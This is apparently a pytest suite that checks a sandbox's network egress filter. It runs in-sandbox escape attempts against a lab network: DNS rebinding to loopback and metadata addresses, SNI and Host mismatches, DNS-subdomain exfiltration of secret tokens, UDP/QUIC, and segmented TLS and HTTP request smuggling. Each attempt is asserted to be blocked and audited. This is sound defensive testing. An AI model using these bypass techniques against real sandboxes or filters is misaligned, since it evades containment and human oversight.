"""Network escape attempts from inside a real sandbox, against the tests' own network lab. Each one
must fail, and the filter's audit records must show it."""

from __future__ import annotations

import contextlib
import json
import os
import secrets
import shutil
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import psutil
import pytest

from ..helpers.netlab import NetLab, needs_nft, payloads
from ..helpers.sandbox import AGENT_USER, Sandbox, needs_root

pytestmark = [needs_root, needs_nft]

# Runs inside the sandbox: each named attempt prints OK (it worked: an escape) or the error.
PROBE = """
import json, socket, ssl, sys, urllib.request
results = {}
def attempt(name, fn):
    try:
        results[name] = "OK " + str(fn())[:200]
    except Exception as exc:
        results[name] = "BLOCKED " + type(exc).__name__ + ": " + str(exc)[:200]
def http_get(host, port=80, path="/", host_header=None):
    with socket.create_connection((host, port), timeout=3) as s:
        literal_v6 = f"[{host}]" if ":" in host else host
        s.sendall(f"GET {path} HTTP/1.0\\r\\nHost: {host_header or literal_v6}\\r\\n\\r\\n".encode())
        data = b""
        while chunk := s.recv(4096):
            data += chunk
    if not data.startswith(b"HTTP/1.0 200"):
        raise PermissionError(data.decode(errors="replace").splitlines()[-1] if data else "empty reply")
    return data.decode(errors="replace").splitlines()[-1]
"""


def probe(box: Sandbox, body: str, **kw: Any) -> tuple[dict[str, str], Any]:
    r = box.python(PROBE + body + "\nprint(json.dumps(results))\n", **kw)
    assert r.out.strip(), r.err
    return json.loads(r.out.strip().splitlines()[-1]), r


def assert_all_blocked(results: dict[str, str]) -> None:
    escaped = {name: outcome for name, outcome in results.items() if not outcome.startswith("BLOCKED")}
    assert not escaped, f"escaped: {escaped}"


def test_clients_that_ignore_proxy_settings_are_still_captured(net_sandbox: Sandbox) -> None:
    env = {"HTTP_PROXY": "http://127.0.0.1:3128", "http_proxy": "http://127.0.0.1:3128"}
    r = net_sandbox.run("curl", "-sS", "--noproxy", "*", "--max-time", "5", "http://198.51.100.11/", env=env)
    assert "net.host_not_allowed" in r.out and "OK" not in r.out  # a raw address, no proxy: still the filter
    results, r2 = probe(net_sandbox, 'attempt("raw socket to a denied address", lambda: http_get("198.51.100.11"))')
    assert_all_blocked(results)
    denied = [c for c in payloads(r, "net.connect") + payloads(r2, "net.connect") if c["decision"] == "deny"]
    assert len(denied) == 2 and {c["host"] for c in denied} == {"198.51.100.11"}
    # the same capture lets an allowed name through for a client that ignores the proxy variables
    r = net_sandbox.run("curl", "-sS", "--noproxy", "*", "--max-time", "5", "http://api.example.test/", env=env)
    assert r.code == 0 and "host=api.example.test" in r.out


def test_literal_addresses_v4_and_v6(net_sandbox: Sandbox) -> None:
    results, r = probe(
        net_sandbox,
        'attempt("ipv4 literal", lambda: http_get("198.51.100.10", host_header="api.example.test"))\n'
        'attempt("ipv6 literal", lambda: http_get("2001:db8:1::10", host_header="api.example.test"))\n'
        'attempt("ipv4 literal, own Host", lambda: http_get("198.51.100.10"))\n',
    )
    assert_all_blocked(results)
    rules = sorted(c["rules"][0] for c in payloads(r, "net.connect"))
    assert rules == ["net.host_mismatch", "net.host_mismatch", "net.host_not_allowed"]
    assert {c["destination"] for c in payloads(r, "net.connect")} == {"198.51.100.10", "2001:db8:1::10"}


def test_rebinding_to_internal_addresses(net_sandbox: Sandbox) -> None:
    names = ["rebind-loopback", "rebind-metadata", "rebind-private", "rebind-mapped", "rebind-own"]
    net_sandbox.permissions["network"]["allowed_hosts"] = [f"{n}.example.test" for n in names]
    net_sandbox.permissions["network"]["allowed_ports"] = [80, 8081]
    body = "".join(
        f'attempt("{n}", lambda: http_get("{n}.example.test", {8081 if n == "rebind-loopback" else 80}))\n'
        for n in names
    )
    results, r = probe(net_sandbox, body)
    assert_all_blocked(results)
    verdicts = {c["host"].split(".")[0]: (c["rules"][0], c.get("address")) for c in payloads(r, "net.connect")}
    assert verdicts == {
        "rebind-loopback": ("net.private_address", "127.0.0.1"),  # the lab's outer 127.0.0.1:8081 serves HTTP
        "rebind-metadata": ("net.metadata_address", "169.254.169.254"),
        "rebind-private": ("net.private_address", "10.77.0.10"),  # a live server in the lab
        "rebind-mapped": ("net.private_address", "::ffff:7f00:1"),  # ::ffff:127.0.0.1
        "rebind-own": ("net.private_address", "192.0.2.1"),  # the enforcer's own address
    }
    assert not payloads(r, "net.close"), "a rebinding connection was relayed"


def test_sni_host_and_connect_mismatches(net_sandbox: Sandbox, netlab: NetLab) -> None:
    ca = str(netlab.ca_dir / "lab-ca.pem")
    body = f"""
def tls(connect_to, server_name):
    context = ssl.create_default_context(cafile={ca!r})
    context.check_hostname = False
    with socket.create_connection((connect_to, 443), timeout=3) as raw:
        with context.wrap_socket(raw, server_hostname=server_name) as s:
            s.sendall(b"GET / HTTP/1.0\\r\\nHost: " + server_name.encode() + b"\\r\\n\\r\\n")
            return s.recv(4096)
def connect_tunnel():
    with socket.create_connection(("api.example.test", 80), timeout=3) as s:
        s.sendall(b"CONNECT other.example.test:443 HTTP/1.1\\r\\nHost: other.example.test:443\\r\\n\\r\\n")
        reply = s.recv(4096)
    if b" 200 " in reply.split(b"\\r\\n")[0]:
        return reply
    raise PermissionError(reply.decode(errors="replace").splitlines()[-1] if reply else "empty reply")
attempt("SNI of another name (domain fronting)", lambda: tls("api.example.test", "other.example.test"))
attempt("Host of another name", lambda: http_get("api.example.test", host_header="other.example.test"))
attempt("CONNECT to another name", connect_tunnel)
"""
    results, r = probe(net_sandbox, body)
    assert_all_blocked(results)
    connects = payloads(r, "net.connect")
    assert [c["rules"][0] for c in connects] == ["net.host_mismatch"] * 3
    assert connects[0]["sni"] == "other.example.test" and connects[1]["http_host"] == "other.example.test"


def test_dns_exfiltration_through_subdomains(net_sandbox: Sandbox, netlab: NetLab) -> None:
    secret = [secrets.token_hex(24) for _ in range(3)]
    body = "".join(
        f'attempt("exfil {i}", lambda: socket.getaddrinfo("{s}.api.example.test", 443))\n' for i, s in enumerate(secret)
    )
    body += (
        'attempt("TXT over TCP to an allowed zone", lambda: socket.getaddrinfo("x" * 60 + ".api.example.test", 80))\n'
    )
    results, r = probe(net_sandbox, body)
    assert_all_blocked(results)
    denied = {d["host"] for d in payloads(r, "net.dns") if d["decision"] == "deny"}
    assert all(f"{s}.api.example.test" in denied for s in secret)  # the queried names are in the audit log
    upstream = json.dumps(netlab.server_events())
    assert not any(s in upstream for s in secret), "an exfiltration query reached the upstream resolver"


def test_udp_and_quic_are_dropped_and_counted(net_sandbox: Sandbox, netlab: NetLab) -> None:
    body = """
def udp(host, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"\\xc3" + b"quic-initial" * 20 if port == 443 else b"udp datagram", (host, port))
    return "sent"
attempt("udp", lambda: udp("198.51.100.10", 9999))
attempt("udp by name", lambda: udp("api.example.test", 9999))
attempt("quic", lambda: udp("api.example.test", 443))
"""
    results, r = probe(net_sandbox, body)
    # sendto() of a dropped datagram reports EPERM (the output hook drops it) or succeeds silently
    assert all(v.startswith(("BLOCKED PermissionError", "OK sent")) for v in results.values()), results
    summary = payloads(r, "net.summary")[0]
    assert summary["dropped_packets"]["udp_dropped"] >= 2 and summary["dropped_packets"]["quic_dropped"] >= 1
    assert summary["decision"] == "deny" and "net.quic_dropped" in summary["rules"]
    assert not [e for e in netlab.server_events() if "udp" in e], "a datagram reached the lab"


def test_host_loopback_service_and_abstract_socket(net_sandbox: Sandbox, netlab: NetLab) -> None:
    body = """
def abstract():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as s:
        s.connect("\\0adl-test-host-service")
    return "connected"
attempt("the host's localhost:8081", lambda: http_get("127.0.0.1", 8081))
attempt("the host's [::1]:8081", lambda: http_get("::1", 8081))
attempt("localhost by name", lambda: http_get("localhost", 8081))
attempt("abstract unix socket of the host", abstract)
"""
    assert netlab.in_outer("curl", "-sS", "--max-time", "3", "http://127.0.0.1:8081/").returncode == 0  # it is live
    results, r = probe(net_sandbox, body)
    assert_all_blocked(results)
    loopback = [c for c in payloads(r, "net.connect") if c["port"] == 8081]
    assert {c["address"] for c in loopback} >= {"127.0.0.1", "::1"} and all(c["decision"] == "deny" for c in loopback)
    denied_names = {d["host"] for d in payloads(r, "net.dns") if d["decision"] == "deny"}
    assert len(loopback) >= 3 or "localhost" in denied_names  # by name: /etc/hosts, else the stub refuses it
    assert not [e for e in netlab.server_events() if "abstract" in e]
    assert "launch" in r.kinds() and "exit" in r.kinds()


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not installed")
def test_node_fetch_ignores_proxies_and_is_still_captured(net_sandbox: Sandbox) -> None:
    net_sandbox.permissions["execution"]["allowed_commands"].append("node")
    net_sandbox.permissions["resource_limits"]["max_memory_mb"] = 512  # V8 reserves more than a Python agent
    net_sandbox.permissions["filesystem"]["allowed_paths"].append({"path": "/etc/ssl/**", "access": "read"})
    script = (
        "const show = (tag) => [(r) => r.text().then((t) => console.log(tag, 'OK', t.trim())),"
        " (e) => console.log(tag, 'BLOCKED', e.cause?.code || e.message)];"
        "fetch('http://api.example.test/').then(...show('allowed'))"
        ".then(() => fetch('http://other.example.test/')).then(...show('denied-name'))"
        ".then(() => fetch('http://198.51.100.11/')).then(...show('denied-address'));"
    )
    r = net_sandbox.run("node", "-e", script, env={"HTTP_PROXY": "http://127.0.0.1:3128"})
    lines = dict(line.split(" ", 1) for line in r.out.strip().splitlines())
    assert lines["allowed"].startswith("OK hello") and "host=api.example.test" in lines["allowed"], r.err
    assert lines["denied-name"] == "BLOCKED ENOTFOUND"
    assert lines["denied-address"].startswith("OK adl-enforcer: connection denied (net.host_not_allowed)")
    assert [c["decision"] for c in payloads(r, "net.connect")] == ["allow", "deny"]


def test_the_filter_process_holds_no_capabilities(net_sandbox: Sandbox) -> None:
    """What parses the agent's bytes (DNS, ClientHello, HTTP heads) can do nothing root-only."""
    argv = [*net_sandbox.wrap, sys.executable, "-m", "enforcer.cli.exec", "--adl", str(net_sandbox.policy())]
    argv += ["--user", AGENT_USER, "--"]
    env = {**os.environ, "ADL_ENFORCER_AUDIT_DIR": str(net_sandbox.audit), **net_sandbox.env}
    env["ADL_ENFORCER_AUDIT_KEY"] = str(net_sandbox.root / "audit-key.pem")
    marker = net_sandbox.ws / "agent-started"
    agent = f"import time; open({str(marker)!r}, 'w').close(); time.sleep(2)"
    launcher = subprocess.Popen([*argv, "python3", "-c", agent], env=env)
    try:
        status: dict[str, str] = {}
        for _ in range(200):  # bounded: the session starts within a second or two
            if not marker.exists():  # the filter is set up (and has dropped everything) before the agent runs
                time.sleep(0.05)
                continue
            for child in psutil.Process(launcher.pid).children(recursive=True):
                with contextlib.suppress(OSError, psutil.Error):
                    links = [os.readlink(f"/proc/{child.pid}/fd/{fd}") for fd in os.listdir(f"/proc/{child.pid}/fd")]
                    if any(link.startswith("net:[") for link in links) and any(  # the namespace and its listeners
                        link.startswith("socket:[") for link in links
                    ):
                        lines = Path(f"/proc/{child.pid}/status").read_text().splitlines()
                        status = dict(line.split(":\t", 1) for line in lines if ":\t" in line)
            if status:
                break
            time.sleep(0.05)
    finally:
        launcher.wait(timeout=30)
    assert status, "the egress filter process was not found"
    assert int(status["CapEff"], 16) == 0 and int(status["CapPrm"], 16) == 0 and int(status["CapBnd"], 16) == 0
    assert status["NoNewPrivs"].strip() == "1"


# Runs inside the sandbox: TLS and HTTP clients that segment and pace what they send, optionally
# through the filter's CONNECT proxy. Each returns the server's last line (an escape when the name
# it carried was another host) or raises.
SEGMENTED = """
import time
PROXY = ("127.0.0.1", 15001)
def dial(connect_to, port, proxy):
    s = socket.create_connection(PROXY if proxy else (connect_to, port), timeout=8)
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if proxy:
        s.sendall(f"CONNECT {connect_to}:{port} HTTP/1.1\\r\\nHost: {connect_to}:{port}\\r\\n\\r\\n".encode())
        reply = b""
        while b"\\r\\n\\r\\n" not in reply:
            chunk = s.recv(1)
            if not chunk:
                raise ConnectionError("proxy closed")
            reply += chunk
        if b" 200 " not in reply.split(b"\\r\\n")[0]:
            raise PermissionError(reply.decode(errors="replace"))
    return s
def send_paced(s, data, writes, pause):
    if writes == "bytes":
        parts = [data[i:i + 1] for i in range(len(data))]
    else:
        parts = [data[:writes], data[writes:]]
    for part in parts:
        s.sendall(part)
        time.sleep(pause)
def refragment(hello, size):
    message = hello[5:]
    return b"".join(b"\\x16\\x03\\x01" + len(message[i:i + size]).to_bytes(2, "big") + message[i:i + size]
                    for i in range(0, len(message), size))
def tls(connect_to, sni, writes=None, pause=0.0, record=None, proxy=False):
    context = ssl.create_default_context(cafile=CA)
    context.check_hostname = False
    context.set_alpn_protocols(["http/1.1"])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = context.wrap_bio(incoming, outgoing, server_hostname=sni)
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    if record:
        hello = refragment(hello, record)
    with dial(connect_to, 443, proxy) as s:
        send_paced(s, hello, len(hello) if writes is None else writes, pause)
        def pump():
            data = s.recv(65536)
            if not data:
                raise ConnectionError("closed by the filter")
            incoming.write(data)
        while True:
            try:
                obj.do_handshake()
                break
            except ssl.SSLWantReadError:
                if pending := outgoing.read():
                    s.sendall(pending)
                pump()
        obj.write(b"GET / HTTP/1.0\\r\\nHost: " + (sni or connect_to).encode() + b"\\r\\n\\r\\n")
        s.sendall(outgoing.read())
        reply = b""
        while True:
            try:
                chunk = obj.read(4096)
            except ssl.SSLWantReadError:
                try:
                    pump()
                except ConnectionError:
                    break
                continue
            except (ssl.SSLZeroReturnError, ssl.SSLEOFError):
                break
            if not chunk:
                break
            reply += chunk
    return reply.decode(errors="replace").splitlines()[-1]
def read_response(s):
    head = b""
    while b"\\r\\n\\r\\n" not in head:
        chunk = s.recv(1)
        if not chunk:
            raise ConnectionError("closed by the filter")
        head += chunk
    length = int(dict(line.split(": ", 1) for line in head.decode().split("\\r\\n")[1:] if ": " in line)
                 .get("Content-Length", "0"))
    body = b""
    while len(body) < length:
        chunk = s.recv(length - len(body))
        if not chunk:
            raise ConnectionError("closed mid-body")
        body += chunk
    if b" 200 " not in head.split(b"\\r\\n")[0]:
        raise PermissionError(body.decode(errors="replace").strip())
    return body.decode(errors="replace").strip()
def http(connect_to, port, requests, writes=None, pause=0.0, proxy=False, pipelined=False):
    answers = []
    with dial(connect_to, port, proxy) as s:
        if pipelined:
            s.sendall(b"".join(requests))
            return [read_response(s) for _ in requests][-1]
        for request in requests:
            send_paced(s, request, len(request) if writes is None else writes, pause)
            answers.append(read_response(s))
    return answers[-1]
def websocket(connect_to, path="/", then=None):
    with dial(connect_to, 8011, False) as s:
        s.sendall(get(connect_to, path, extra="Upgrade: websocket\\r\\nConnection: Upgrade\\r\\n"))
        if then is None:
            head = b""
            while b"\\r\\n\\r\\n" not in head:
                chunk = s.recv(1)
                if not chunk:
                    raise ConnectionError("closed by the filter")
                head += chunk
            if b" 101 " not in head.split(b"\\r\\n")[0]:
                raise PermissionError(head.decode(errors="replace"))
            s.sendall(b"frames")
            return s.recv(100).decode()
        read_response(s)
        s.sendall(then)
        return read_response(s)
def get(host, target="/", version="1.1", eol="\\r\\n", extra=""):
    return f"GET {target} HTTP/{version}{eol}Host: {host}{eol}{extra}{eol}".encode()
"""


def segmented(box: Sandbox, netlab: NetLab, body: str, **kw: Any) -> tuple[dict[str, str], Any]:
    box.permissions["resource_limits"]["max_duration_sec"] = 60  # paced clients take seconds
    return probe(box, f"CA = {str(netlab.ca_dir / 'lab-ca.pem')!r}\n" + SEGMENTED + body, **kw)


def denials(result: Any) -> list[tuple[str, str | None]]:
    """(rule, the name the refused bytes carried) for each refusal, in order."""
    return [
        (c["rules"][0], c.get("sni") or c.get("http_target_host") or c.get("http_host"))
        for c in payloads(result, "net.connect")
        if c["decision"] == "deny"
    ]


def test_split_and_slow_clienthellos_are_read_whole(net_sandbox: Sandbox, netlab: NetLab) -> None:
    """A ClientHello cut into 1-byte writes, or paused past the first-byte wait, or split across
    records, is still read whole: another name in its SNI is refused, and so is no SNI to a name."""
    net_sandbox.permissions["network"]["allowed_hosts"].append("198.51.100.10")
    attacks, r = segmented(
        net_sandbox,
        netlab,
        """
attempt("1-byte writes", lambda: tls("api.example.test", "other.example.test", "bytes", 0.002))
attempt("pause past the sniff timeout", lambda: tls("api.example.test", "other.example.test", 1, 0.6))
attempt("records of 7 bytes, paused", lambda: tls("api.example.test", "other.example.test", 40, 0.6, record=7))
attempt("no SNI to a name", lambda: tls("api.example.test", None, 1, 0.6))
attempt("through the proxy, paused", lambda: tls("api.example.test", "other.example.test", 1, 0.6, proxy=True))
attempt("through the proxy, no SNI", lambda: tls("api.example.test", None, proxy=True))
attempt("pause before the first byte", lambda: tls("api.example.test", "other.example.test", 0, 0.6))
""",
    )
    assert_all_blocked(attacks)
    assert denials(r) == [
        ("net.host_mismatch", "other.example.test"),
        ("net.host_mismatch", "other.example.test"),
        ("net.host_mismatch", "other.example.test"),
        ("net.sni_missing", None),
        ("net.host_mismatch", "other.example.test"),
        ("net.sni_missing", None),
        ("net.host_mismatch", "other.example.test"),  # after an allowed silence: checked all the same
    ]
    assert all(c["host"] == "api.example.test" for c in payloads(r, "net.connect"))
    controls, r = segmented(
        net_sandbox,
        netlab,
        """
attempt("1-byte writes", lambda: tls("api.example.test", "api.example.test", "bytes", 0.002))
attempt("records of 7 bytes, paused", lambda: tls("api.example.test", "api.example.test", 40, 0.6, record=7))
attempt("a literal address without SNI", lambda: tls("198.51.100.10", None, 1, 0.6))
attempt("through the proxy, paused", lambda: tls("api.example.test", "api.example.test", 1, 0.6, proxy=True))
attempt("pause before the first byte", lambda: tls("api.example.test", "api.example.test", 0, 0.6))
""",
    )
    assert all(v.startswith("OK hello") for v in controls.values()), controls
    assert [c["decision"] for c in payloads(r, "net.connect")] == ["allow"] * 5


def test_a_clienthello_that_never_completes_is_refused(net_sandbox: Sandbox, netlab: NetLab) -> None:
    body = """
def stalled():
    with socket.create_connection(("api.example.test", 443), timeout=10) as s:
        s.sendall(bytes.fromhex("1603010200010001fc0303"))  # a ClientHello's start, then nothing
        data = s.recv(100)
        if not data:
            raise ConnectionError("closed by the filter")
        return data
attempt("stalled ClientHello", stalled)
"""
    started = time.monotonic()
    results, r = segmented(net_sandbox, netlab, body, env={"ADL_ENFORCER_MESSAGE_TIMEOUT_MS": "1000"})
    assert_all_blocked(results)
    assert time.monotonic() - started < 20
    [denied] = payloads(r, "net.connect")
    assert denied["rules"] == ["net.incomplete"] and denied["protocol"] == "https", denied


def test_slow_and_bare_lf_http_heads_are_read_whole(net_sandbox: Sandbox, netlab: NetLab) -> None:
    attacks, r = segmented(
        net_sandbox,
        netlab,
        """
api = "api.example.test"
other_10 = get("other.example.test", version="1.0")
other_lf = get("other.example.test", version="1.0", eol="\\n")
attempt("1-byte writes", lambda: http(api, 80, [other_10], "bytes", 0.01))
attempt("pause past the sniff timeout", lambda: http(api, 80, [get("other.example.test")], 5, 0.6))
attempt("bare LF", lambda: http(api, 80, [other_lf]))
attempt("no Host to a name", lambda: http(api, 80, [b"GET / HTTP/1.0\\r\\n\\r\\n"]))
attempt("through the proxy, bare LF", lambda: http(api, 80, [other_lf], proxy=True))
attempt("pause before the first byte", lambda: http(api, 80, [other_10], 0, 0.6))
attempt("leading whitespace", lambda: http(api, 80, [b" " + other_10.replace(b" ", b"\\t")]))
""",
    )
    assert_all_blocked(attacks)
    assert denials(r) == [
        ("net.host_mismatch", "other.example.test"),
        ("net.host_mismatch", "other.example.test"),
        ("net.host_mismatch", "other.example.test"),
        ("net.host_missing", None),
        ("net.host_mismatch", "other.example.test"),
        ("net.host_mismatch", "other.example.test"),
        ("net.unreadable", "other.example.test"),  # not a strict request line: refused, not relayed as opaque
    ]
    controls, r = segmented(
        net_sandbox,
        netlab,
        """
api = "api.example.test"
attempt("1-byte writes", lambda: http(api, 80, [get(api, version="1.0")], "bytes", 0.01))
attempt("bare LF", lambda: http(api, 80, [get(api, version="1.0", eol="\\n")]))
""",
    )
    assert all("host=api.example.test" in v for v in controls.values()), controls


def test_every_request_on_a_kept_alive_connection_is_checked(net_sandbox: Sandbox, netlab: NetLab) -> None:
    net_sandbox.permissions["network"]["allowed_ports"] = [80, 443, 8011]
    attacks, r = segmented(
        net_sandbox,
        netlab,
        """
api = "api.example.test"
ok, other = get(api), get("other.example.test")
absolute = get(api, "http://other.example.test/")
chunked = b"POST / HTTP/1.1\\r\\nHost: api.example.test\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n"
unframed = chunked.replace(b"Host:", b"Content-Length: 3\\r\\nHost:")
attempt("second request, another Host", lambda: http(api, 8011, [ok, other]))
attempt("pipelined", lambda: http(api, 8011, [ok, other], pipelined=True))
attempt("absolute-form target", lambda: http(api, 8011, [absolute]))
attempt("second, absolute-form", lambda: http(api, 8011, [ok, absolute]))
attempt("after a chunked body", lambda: http(api, 8011, [chunked + b"3\\r\\nabc\\r\\n0\\r\\n\\r\\n", other]))
attempt("through the proxy", lambda: http(api, 8011, [ok, other], proxy=True))
attempt("a body that cannot be framed", lambda: http(api, 8011, [unframed + b"0\\r\\n\\r\\n", other], pipelined=True))
""",
    )
    assert_all_blocked(attacks)
    assert denials(r) == [("net.host_mismatch", "other.example.test")] * 6 + [("net.unreadable", "api.example.test")]
    later = [c for c in payloads(r, "net.connect") if c["decision"] == "deny" and c.get("request", 1) > 1]
    assert len(later) == 5 and all(c["request"] == 2 for c in later)
    controls, r = segmented(
        net_sandbox,
        netlab,
        """
api = "api.example.test"
ok = get(api)
smuggled = get("other.example.test")
looks_like_a_head = b"POST / HTTP/1.1\\r\\nHost: api.example.test\\r\\nContent-Length: %d\\r\\n\\r\\n%s" % (
    len(smuggled), smuggled)
attempt("three requests", lambda: http(api, 8011, [ok, ok, ok]))
attempt("a body that looks like a head", lambda: http(api, 8011, [looks_like_a_head, ok], pipelined=True))
attempt("through the proxy", lambda: http(api, 8011, [ok, ok], proxy=True))
""",
    )
    assert all(v.startswith("OK hello host=api.example.test") for v in controls.values()), controls
    assert all(c["decision"] == "allow" for c in payloads(r, "net.connect"))
    assert [c["requests"] for c in payloads(r, "net.close")] == [3, 2, 2]


def test_only_a_websocket_handshake_that_opens_a_connection_switches(net_sandbox: Sandbox, netlab: NetLab) -> None:
    """The filter follows a protocol switch only where it sees the server's 101; a handshake the
    server ignores leaves the connection HTTP, and every later head is checked."""
    net_sandbox.permissions["network"]["allowed_ports"] = [8011]
    upgrade = "Upgrade: websocket\\r\\nConnection: Upgrade\\r\\n"
    attacks, r = segmented(
        net_sandbox,
        netlab,
        f"""
api = "api.example.test"
other = get("other.example.test")
attempt("after an ignored handshake", lambda: websocket(api, "/no-upgrade", then=other))
attempt("a handshake on a kept-alive connection", lambda: http(api, 8011, [get(api), get(api, extra="{upgrade}")]))
attempt("h2c", lambda: http(api, 8011, [get(api, extra="Upgrade: h2c\\r\\nConnection: Upgrade\\r\\n")]))
""",
    )
    assert_all_blocked(attacks)
    assert denials(r) == [
        ("net.host_mismatch", "other.example.test"),
        ("net.unreadable", "api.example.test"),
        ("net.unreadable", "api.example.test"),
    ]
    controls, r = segmented(
        net_sandbox,
        netlab,
        """
api = "api.example.test"
attempt("switched", lambda: websocket(api))
attempt("ignored, then the same host", lambda: websocket(api, "/no-upgrade", then=get(api)))
""",
    )
    assert controls["switched"] == "OK ws-echo frames", controls
    assert controls["ignored, then the same host"].startswith("OK hello host=api.example.test"), controls
    assert [c["protocol"] for c in payloads(r, "net.connect")] == ["ws", "ws"]
    assert [u["switched"] for u in payloads(r, "net.upgrade")] == [True, False]


def test_a_late_first_byte_under_an_https_only_policy(net_sandbox: Sandbox, netlab: NetLab) -> None:
    """Where opaque TCP is not allowed, a silent client is given the message time to speak, and what
    it sends is checked like any first message."""
    net_sandbox.permissions["network"] = {
        "allowed_hosts": ["api.example.test"],
        "allowed_ports": [443],
        "allowed_protocols": ["https"],
    }
    results, r = segmented(
        net_sandbox,
        netlab,
        """
attempt("late, another SNI", lambda: tls("api.example.test", "other.example.test", 0, 0.6))
attempt("late, its own SNI", lambda: tls("api.example.test", "api.example.test", 0, 0.6))
""",
    )
    assert results["late, another SNI"].startswith("BLOCKED"), results
    assert results["late, its own SNI"].startswith("OK hello"), results
    assert [(c["decision"], c["rules"][0], c["protocol"]) for c in payloads(r, "net.connect")] == [
        ("deny", "net.host_mismatch", "https"),
        ("allow", "net.allowed", "https"),
    ]
